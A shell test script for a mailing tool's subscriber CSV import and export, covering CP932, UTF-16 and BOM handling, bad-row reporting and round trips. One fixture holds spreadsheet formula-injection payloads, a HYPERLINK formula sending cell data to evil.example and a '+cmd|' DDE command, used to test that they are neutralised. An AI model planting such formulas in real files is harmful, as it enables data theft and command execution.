#!/bin/sh
# CSV import: CP932 with Japanese headers and a quoted multi-line field;
# a file with bad rows stores nothing; export -> import round trip.
. "$(dirname "$0")/lib.sh"
write_config </dev/null
sam init >/dev/null

# An Excel-style CP932 file: Japanese headers in another order, CRLF,
# ㈱ and 髙 (CP932 extensions that plain Shift_JIS lacks), a quoted cell
# with a comma, a quoted multi-line products cell, ★ stars, slashed dates.
$PY - <<'PY'
rows = [
 ["事業者名", "メールアドレス", "担当者名", "星", "宣言日", "利用製品", "従業員数", "業種", "自社診断日", "言語"],
 ["㈱髙橋製作所", "info@takahashi.example.co.jp", "髙橋 一郎", "★★", "2024/4/1", "Windows\r\nMicrosoft Office\r\nFortiOS", "12", "製造業", "2025/10/01", "日本語"],
 ["有限会社さくら, 本店", "sakura@example.jp", "佐藤 花子", "一つ星", "2023/11/15", "chrome;acrobat", "5", "小売業", "", ""],
 ["Example Trading K.K.", "trade@example.com", "John Smith", "1", "2025-01-20", "windows、zoom", "", "卸売業", "", "英語"],
]
import csv, io
b = io.StringIO()
csv.writer(b, lineterminator="\r\n").writerows(rows)
open("cp932.csv", "wb").write(b.getvalue().encode("cp932"))
PY
expect_exit 0 "import CP932 CSV with Japanese headers (auto-detected)" -- sam subscriber import cp932.csv
check "summary says CP932 and 3 added" -- grep -q "(CP932): 3 rows: 3 added" "$T/out"
sam --json subscriber list > list.json
check "values decoded and normalised" -- $PY - <<'PY'
import json
d = {x["email"]: x for x in json.load(open("list.json"))}
t = d["info@takahashi.example.co.jp"]
assert t["org"] == "㈱髙橋製作所" and t["name"] == "髙橋 一郎", t
assert t["star"] == 2 and t["declared"] == "2024-04-01" and t["assessed"] == "2025-10-01", t
assert t["products"] == ["fortios", "office", "windows"], t["products"]
assert t["employees"] == 12 and t["industry"] == "製造業" and t["locale"] == "ja", t
s = d["sakura@example.jp"]
assert s["org"] == "有限会社さくら, 本店" and s["star"] == 1 and s["products"] == ["acrobat", "chrome"], s
assert s["assessed"] is None and s["employees"] == 5, s
e = d["trade@example.com"]
assert e["locale"] == "en" and e["products"] == ["windows", "zoom"], e
PY
expect_exit 0 "the same file again" -- sam subscriber import cp932.csv
check "second import: 3 unchanged" -- grep -q "0 added, 0 updated, 3 unchanged" "$T/out"
expect_exit 0 "--encoding cp932 named explicitly" -- sam subscriber import --encoding cp932 cp932.csv
expect_exit 65 "--encoding utf-8 on a CP932 file fails cleanly" -- sam subscriber import --encoding=utf-8 cp932.csv
check "  ... saying where and what to do" -- grep -q "cp932.csv:1: not valid UTF-8; .*--encoding cp932" "$T/err"


# UTF-8 with BOM and an update.
printf '\357\273\277email,org,star\r\nsakura@example.jp,有限会社さくら,2\r\n' > bom.csv
expect_exit 0 "UTF-8 with BOM updates an existing declarer" -- sam subscriber import bom.csv
check "  ... 1 updated" -- grep -q "0 added, 1 updated" "$T/out"
check "  ... columns absent from the file are kept" -- eval \
	'sam --json subscriber show sakura@example.jp | grep -q "\"products\":\[\"acrobat\",\"chrome\"\]"'

# Bad rows: nothing stored, every bad row listed with file:line.
before=$(db_digest)
printf 'email,org,star,declared,products\n' > bad.csv
printf 'new1@example.jp,新規1,1,2025-01-01,windows\n' >> bad.csv
printf 'bad@@example.jp,悪い,1,2025-01-01,windows\n' >> bad.csv
printf 'new2@example.jp,"複数行\n社名",1,2025-01-01,windows\n' >> bad.csv
printf 'new3@example.jp,新規3,5,2025-01-01,windows\n' >> bad.csv
printf 'new4@example.jp,新規4,1,2025-02-30,windows\n' >> bad.csv
printf 'new5@example.jp,新規5,1,2025-01-01,nosuch\n' >> bad.csv
printf 'new1@example.jp,重複,1,2025-01-01,windows\n' >> bad.csv
printf 'new6@example.jp,,1,2025-01-01,windows\n' >> bad.csv
printf 'New1@example.jp,大文字,1,2025-01-01,windows\n' >> bad.csv
expect_exit 65 "a file with bad rows" -- sam subscriber import bad.csv
check "nothing stored" -- test "$(db_digest)" = "$before"
for l in "bad.csv:3: email" "bad.csv:4: org" "bad.csv:6: star" "bad.csv:7: declared" \
	"bad.csv:8: products: unknown product 'nosuch'" "bad.csv:9: email: 'new1@example.jp' is already on line 2" \
	"bad.csv:10: org is empty" "bad.csv:11: email: 'New1@example.jp' is already on line 2"; do
	check "listed: $l" -- grep -qF "$l" "$T/err"
done
printf 'email,org\nsakura@example.jp,A\nSakura@example.jp,B\n' > twice.csv
expect_exit 65 "a stored declarer twice in one file, the case differing" -- sam subscriber import twice.csv
check "  ... named with the first line" -- grep -qF "twice.csv:3: email: 'Sakura@example.jp' is already on line 2" "$T/err"
check "  ... nothing stored" -- test "$(db_digest)" = "$before"
printf ',,,\r\n,,,\r\nemail,org,,\r\nblank-above@example.jp,A,,\r\n' > blankfirst.csv
expect_exit 0 "rows of empty cells above the header (Excel) are blank lines" -- sam subscriber import --dry-run blankfirst.csv
check "  ... the header found on line 3" -- grep -q "1 added" "$T/out"
expect_exit 65 "--dry-run reports the same and stores nothing" -- sam subscriber import --dry-run bad.csv
check "  ... nothing stored" -- test "$(db_digest)" = "$before"
expect_exit 65 "--skip-invalid stores the good rows (and still exits 65)" -- sam subscriber import --skip-invalid bad.csv
check "  ... new1 stored, the rest not" -- eval \
	'[ "$(sam subscriber list | cut -f1 | grep -c ^new)" = 1 ]'
before=$(db_digest)
printf 'email,org\nx@example.jp,"never closed\n' > broken.csv
expect_exit 65 "a malformed CSV" -- sam subscriber import broken.csv
check "  ... nothing stored" -- test "$(db_digest)" = "$before"
expect_exit 66 "a missing file" -- sam subscriber import /nonexistent.csv
# A workbook saved as .xlsx and renamed .csv (or picked instead of its
# CSV): it was "neither UTF-8 (line 1 is not) nor CP932", which says
# nothing about what to do.
$PY -c 'import zipfile; z = zipfile.ZipFile("book.csv", "w"); z.writestr("[Content_Types].xml", "<Types/>"); z.writestr("xl/workbook.xml", "<workbook/>"); z.close()'
expect_exit 65 "an .xlsx renamed .csv" -- sam subscriber import --encoding cp932 book.csv
check "  ... says it is a workbook and how to save it as CSV" -- \
	grep -q 'book.csv is a spreadsheet workbook (.xlsx or .xls), not a CSV file; open it in Excel and save it as "CSV UTF-8"' "$T/err"
check "  ... nothing stored" -- test "$(db_digest)" = "$before"
printf 'emial,org\n' > hdr.csv
expect_exit 65 "an unknown column" -- sam subscriber import hdr.csv
check "  ... warns about the unknown column, then says email is missing" -- eval \
	'grep -q "hdr.csv:1: column 1 .emial. is not a declarer field and is ignored (known: email" "$T/err" && grep -q "must name at least the columns email and org" "$T/err"'
# Spreadsheets carry columns of their own: ignored, with a warning.
printf 'No.,email,org,備考\n1,extra@example.jp,株式会社余白,電話で確認済み\n' > extra.csv
expect_exit 0 "extra columns (No., 備考) are ignored" -- sam subscriber import extra.csv
check "  ... with one warning naming both, and the row stored" -- eval \
	'[ "$(grep -c "ignored" "$T/err")" = 1 ] && grep -q "extra.csv:1: 2 columns are not declarer fields and are ignored: 1 .No\.., 4 .備考. (known: email" "$T/err" && grep -q "1 added" "$T/out"'
# A CRM export: 118 columns of its own around ours; one warning line, not
# 118, that counts them and names the first five.
awk 'BEGIN { h = "id"; v = "1"; for (i = 2; i <= 120; i++) {
	if (i == 60) { h = h ",email"; v = v ",crm@example.jp"; continue }
	if (i == 61) { h = h ",org"; v = v ",株式会社顧客"; continue }
	h = h ",crm_field_" i; v = v ",x" i }
	print h; print v }' > crm.csv
expect_exit 0 "a CRM export with 118 columns of its own" -- sam subscriber import --dry-run crm.csv
check "  ... one warning line: the count and the first names" -- eval \
	'[ "$(wc -l < "$T/err")" = 1 ] && grep -q "crm.csv:1: 118 columns are not declarer fields and are ignored: 1 .id., 2 .crm_field_2., 3 .crm_field_3., 4 .crm_field_4., 5 .crm_field_5. and 113 more (known: email" "$T/err" && grep -q "1 added" "$T/out"'
# Status carries over to another server, and never re-activates.
sam subscriber update extra@example.jp --status unsubscribed >/dev/null
# Cells a spreadsheet would run as formulas: exported as text, read back.
printf 'email,org,name\nformula@example.jp,"=HYPERLINK(""http://evil.example/?""&A1,""x"")",+cmd|x!A0\n' > formula.csv
expect_exit 0 "a formula-looking org and name import as text" -- sam subscriber import formula.csv
# A NUL byte or a bidi override in a cell is refused.
printf 'email,org\nnul@example.jp,ab\000cd\n' > nul.csv
expect_exit 65 "a NUL byte in a cell" -- sam subscriber import nul.csv
printf 'email,org\nbidi@example.jp,\342\200\256evil\n' > bidi.csv
expect_exit 65 "a bidi override (U+202E) in a name" -- sam subscriber import bidi.csv

# Round trip: export, import into a fresh database, export again: identical.
expect_exit 0 "export" -- sam subscriber export --out a.csv
cp samail.conf fresh.conf
sed -i "s|$T/samail.db|$T/fresh.db|" fresh.conf
"$SAMAIL" -c fresh.conf init >/dev/null
expect_exit 0 "import the export into a fresh database" -- "$SAMAIL" -c fresh.conf subscriber import a.csv
"$SAMAIL" -c fresh.conf subscriber export > b.csv
check "export -> import -> export is byte-identical" -- cmp a.csv b.csv
expect_exit 0 "re-import of the export into the source database" -- sam subscriber import a.csv
check "  ... changes nothing" -- grep -q " 0 added, 0 updated, 6 unchanged" "$T/out"
check "the status column carried the unsubscribed declarer over as unsubscribed" -- eval \
	'"$SAMAIL" -c fresh.conf --json subscriber show extra@example.jp | grep -q "\"status\":\"unsubscribed\""'
check "the formula cells are exported as text ('=...) and came back unchanged" -- eval \
	'grep -q "\"'"'"'=HYPERLINK" a.csv && "$SAMAIL" -c fresh.conf --json subscriber show formula@example.jp | grep -q "\"org\":\"=HYPERLINK"'
expect_exit 0 "export in CP932 with Japanese headers and BOM-less" -- sam subscriber export --encoding cp932 --japanese --out j.csv
check "  ... it reads back" -- eval '"$SAMAIL" -c fresh.conf subscriber import j.csv >/dev/null'

# Excel's "CSV UTF-8" (with a BOM) over several 64 KB blocks, a Japanese
# character across each block boundary; then a bad byte far down.
$PY - <<'PY'
rows = ["email,org,name"]
for i in range(6000):
    rows.append("big%05d@example.jp,株式会社大きい%d,山田 太郎%d" % (i, i, i))
# The reader takes 64 KB blocks: pad a row before byte 65536 until that
# byte falls inside a character.
for pad in range(4):
    r = list(rows)
    r[1] = r[1].replace("株式会社", "株式会社" + "x" * pad, 1)
    data = b"\xef\xbb\xbf" + "\n".join(r).encode() + b"\n"
    if 0x80 <= data[65536] < 0xc0:
        break
assert 0x80 <= data[65536] < 0xc0
open("bom-big.csv", "wb").write(data)
rows.insert(5002, "bad@example.jp,\udcff")
open("bad-far.csv", "wb").write("\n".join(rows).encode("utf-8", "surrogateescape") + b"\n")
PY
expect_exit 0 "a BOM file of several 64 KB blocks" -- sam subscriber import bom-big.csv
check "  ... every name exactly as written" -- $PY - "$T/samail.db" <<'PY'
import sqlite3, sys
rows = sqlite3.connect(sys.argv[1]).execute("SELECT email, org, name FROM subscriber WHERE email LIKE 'big%'").fetchall()
assert len(rows) == 6000, len(rows)
for e, o, n in rows:
    i = int(e[3:8])
    assert o.replace("x", "") == "株式会社大きい%d" % i and n == "山田 太郎%d" % i, (e, o, n)
PY
expect_exit 65 "a bad byte on line 5003 of a UTF-8 file" -- sam subscriber import --encoding utf-8 bad-far.csv
check "  ... names line 5003" -- grep -q "bad-far.csv:5003: not valid UTF-8" "$T/err"
expect_exit 65 "  ... detected: neither UTF-8 nor CP932" -- sam subscriber import bad-far.csv
check "  ... names line 5003" -- grep -qF "bad-far.csv:5003: neither UTF-8 (line 5003 is not) nor CP932 (line 2 is not)" "$T/err"

# Excel's "テキスト (タブ区切り)" (CP932, tabs) and a semicolon CSV (Excel in
# locales whose decimal mark is a comma): the separator is read from the
# header row; a comma inside a cell is then just a character.
printf '\t\t\n%s\t%s\t%s\n%s\t%s\t%s\n' 'メールアドレス' '事業者名' '利用製品' \
    'tab1@example.jp' '株式会社タブ, 本社' 'windows,office' | iconv -f utf-8 -t cp932 > tabs.txt
expect_exit 0 "a tab-separated CP932 file" -- sam subscriber import tabs.txt
check "  ... said so" -- grep -q "(CP932, tab-separated): 1 row: 1 added" "$T/out"
check "  ... the comma kept inside its cell" -- [ "$(sqlite3 "$T/samail.db" \
    "SELECT org || '|' || products FROM subscriber WHERE email = 'tab1@example.jp'")" = "株式会社タブ, 本社|office,windows" ]
# Excel's "Unicode テキスト": UTF-16LE with a BOM, tabs, CRLF; it keeps
# what CP932 cannot hold (①, 𠮷).  It was refused ("save it as CSV UTF-8");
# over several blocks, with a quoted two-line cell; a broken one names
# its line.
$PY - <<'PY'
rows = [["メールアドレス", "事業者名", "担当者名", "利用製品"],
        ["u16a@example.jp", "株式会社ユニ①", "𠮷野 太郎", '"Windows\r\nExcel"']]
rows += [["u16-%d@example.jp" % i, "株式会社大きい%d" % i, "", ""] for i in range(3000)]
text = "".join("\t".join(r) + "\r\n" for r in rows)
open("unicode.txt", "wb").write(b"\xff\xfe" + text.encode("utf-16-le"))
open("unicode-bad.txt", "wb").write(b"\xff\xfe" + text.encode("utf-16-le") + b"\x00\xdc\x41\x00")
open("unicode-cut.txt", "wb").write(b"\xff\xfe" + text.encode("utf-16-le")[:-1])
PY
expect_exit 0 "Excel's Unicode text (UTF-16LE, tabs)" -- sam subscriber import --encoding cp932 unicode.txt
check "  ... said so" -- grep -q "(UTF-16, tab-separated): 3001 rows: 3001 added" "$T/out"
check "  ... every character kept" -- [ "$(sqlite3 "$T/samail.db" \
    "SELECT org || '|' || name || '|' || products FROM subscriber WHERE email = 'u16a@example.jp'")" = "株式会社ユニ①|𠮷野 太郎|office,windows" ]
check "  ... across the blocks" -- [ "$(sqlite3 "$T/samail.db" \
    "SELECT count(*) FROM subscriber WHERE email LIKE 'u16-%' AND org = '株式会社大きい' || substr(email, 5, instr(email, '@') - 5)")" = 3000 ]
before=$(db_digest)
expect_exit 65 "a UTF-16 file with a broken character" -- sam subscriber import unicode-bad.txt
check "  ... names its line, nothing stored" -- eval \
	'grep -q "unicode-bad.txt:3004: not valid UTF-16" "$T/err" && test "$(db_digest)" = "$before"'
expect_exit 65 "a UTF-16 file cut short (an odd number of bytes)" -- sam subscriber import unicode-cut.txt
check "  ... says so, not to try --encoding (its BOM names UTF-16 whatever that says)" -- eval \
	'grep -q "unicode-cut.txt: ends in the middle of a UTF-16 character (the file is cut short?); save it again from Excel" "$T/err" && ! grep -q -- --encoding "$T/err" && test "$(db_digest)" = "$before"'
printf 'email;org;name\nsemi1@example.jp;"Semi; Co";Taro\n' > semi.csv
expect_exit 0 "a semicolon-separated file" -- sam subscriber import semi.csv
check "  ... said so, a quoted ';' kept" -- sh -c "grep -q 'semicolon-separated' '$T/out' &&
    [ \"\$(sqlite3 '$T/samail.db' \"SELECT org FROM subscriber WHERE email = 'semi1@example.jp'\")\" = 'Semi; Co' ]"


# An export from another system (a CRM, a sales list) with a hundred
# columns of its own, ours among them: read like any other file.  (The
# cap was 64 columns: the header was cut there, so every row was refused
# as having "more cells than the header's 64", or email and org past
# column 64 were not found.)
$PY - <<'PY'
own = ["crm%d" % i for i in range(120)]
hdr = own[:70] + ["email"] + own[70:] + ["org"]
row = [""] * 70 + ["wide1@example.jp"] + ["x"] * 50 + ["株式会社ワイド"]
open("wide.csv", "w").write(",".join(hdr) + "\r\n" + ",".join(row) + "\r\n")
PY
expect_exit 0 "a CSV of 122 columns, email at 71 and org last" -- sam subscriber import wide.csv
check "  ... stored" -- [ "$(sqlite3 "$T/samail.db" \
    "SELECT org FROM subscriber WHERE email = 'wide1@example.jp'")" = "株式会社ワイド" ]
$PY -c 'print(",".join(["c%d" % i for i in range(1100)] + ["email", "org"]))' > wider.csv
expect_exit 65 "a header of 1102 columns" -- sam subscriber import wider.csv
check "  ... says what to do" -- grep -q "wider.csv:1: the header row has more than 1024 columns; delete" "$T/err"


# Column names from an old system, in half-width katakana as its CP932
# export writes them: read like their full-width forms (they were
# 'not a declarer field', and the file refused for want of email).
printf '%s,%s,%s\r\n%s,%s,%s\r\n' 'ﾒｰﾙｱﾄﾞﾚｽ' '事業者名' 'ｽﾃｰﾀｽ' \
    'kana1@example.jp' 'ｶﾌﾞｼｷｶﾞｲｼｬｶﾅ' '配信停止' | iconv -f utf-8 -t cp932 > kana.csv
expect_exit 0 "half-width katakana column names" -- sam subscriber import kana.csv
check "  ... no column ignored" -- sh -c "! grep -q 'ignored' '$T/err'"
check "  ... stored, status carried over" -- [ "$(sqlite3 "$T/samail.db" \
    "SELECT org || '|' || status FROM subscriber WHERE email = 'kana1@example.jp'")" = "カブシキガイシャカナ|unsubscribed" ]

# CP932 user-defined characters (外字, 0xF040-0xF9FC: U+E000-U+E757) show
# as blanks or boxes in mail: one warning per cell, and the row stored.
{ printf 'email,org,name,industry\r\ngaiji1@example.jp,'
  printf '株式会社' | iconv -f utf-8 -t cp932; printf '\360\100'
  printf '崎,' | iconv -f utf-8 -t cp932; printf '\360\101\360\102,'
  printf '製造\r\ngaiji2@example.jp,普通の会社,,\r\n' | iconv -f utf-8 -t cp932
} > gaiji.csv
expect_exit 0 "CP932 user-defined characters (外字)" -- sam subscriber import gaiji.csv
check "  ... one warning per cell, saying what and how to fix" -- eval \
	'[ "$(wc -l < "$T/err")" = 2 ] &&
	grep -q "^gaiji.csv:2: org: .* has 1 user-defined character (外字: U+E000 at character 5) that mail clients show as a blank or a box; stored as it is: write the standard character in the sheet and import again$" "$T/err" &&
	grep -q "^gaiji.csv:2: name: .* has 2 user-defined characters (外字: U+E001 at character 1, the first)" "$T/err" &&
	grep -q "2 added" "$T/out"'

# A row far larger than a declarer's (1000 cells of 60 KB: not a
# declarer file, or quotes gone astray) is refused without being kept:
# memory stays small, and the rows after it are read.
$PY - <<'PY'
with open("huge.csv", "w", encoding="utf-8") as f:
    f.write("email,org,note\r\nfirst@example.jp,最初,\r\n")
    f.write("big@example.jp,大きい," + ",".join(["x" * 60000] * 1000) + "\r\n")
    f.write("last@example.jp,最後,\r\n")
PY
/usr/bin/time -f %M -o huge.rss "$SAMAIL" -c "$T/samail.conf" subscriber import --skip-invalid --dry-run huge.csv >"$T/out" 2>"$T/err"
check "a 60 MB row: refused with one line, the rows around it read" -- eval \
	'grep -q "^huge.csv:3: the row is over 1024 KB, where a declarer.s is a few hundred bytes; is a quote missing its pair?" "$T/err" &&
	grep -q "2 added" "$T/out" && grep -q "1 rejected" "$T/out"'
check "  ... in under 70 MB of memory, sanitizers too ($(tail -n 1 huge.rss) KB)" -- test "$(tail -n 1 huge.rss)" -lt 71680

# Rows under 1 MB each, their large cells in other columns row after row
# (64 rows of 16 cells of 60 KB): no column's buffer keeps a large cell
# past its row, or together they hold 64 MB to the end of the import.
$PY - <<'PY'
with open("spread.csv", "w", encoding="utf-8") as f:
    f.write("email,org,note\r\n")
    for r in range(64):
        cells = ["r%d@example.jp" % r, "org"] + [""] * 1022
        for k in range(16):
            cells[2 + (r * 16 + k) % 1022] = "x" * 60000
        f.write(",".join(cells) + "\r\n")
PY
# (ASan's quarantine would count the buffers freed after each row.)
ASAN_OPTIONS="${ASAN_OPTIONS:+$ASAN_OPTIONS:}quarantine_size_mb=0" \
    /usr/bin/time -f %M -o spread.rss "$SAMAIL" -c "$T/samail.conf" subscriber import --skip-invalid --dry-run spread.csv >"$T/out" 2>"$T/err"
check "64 rows of large cells in turn: each refused, in under 70 MB ($(tail -n 1 spread.rss) KB)" -- eval \
	'grep -q "64 rejected" "$T/out" && test "$(tail -n 1 spread.rss)" -lt 71680'

finish
